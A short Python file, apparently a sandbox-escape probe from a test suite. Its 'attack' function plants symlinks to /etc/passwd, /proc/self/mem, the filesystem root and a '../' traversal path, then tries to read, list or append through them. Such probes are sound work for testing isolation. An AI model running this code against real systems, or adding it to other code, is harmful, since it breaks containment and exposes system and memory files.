"""Put a link out of scratch, and read or write what it points to."""

import os

target = []


def attack():
    for number, path in enumerate((*target, "/etc/passwd", "/proc/self/mem", "/", "../../../etc/passwd")):
        name = f"link{number}"
        try:
            os.symlink(path, name)
        except OSError:
            continue
        for way in (lambda: os.listdir(name), lambda: open(name, "rb").read(40), lambda: open(name, "ab").tell()):
            try:
                return f"through a link to {path}: {way()!r}"
            except OSError:
                continue
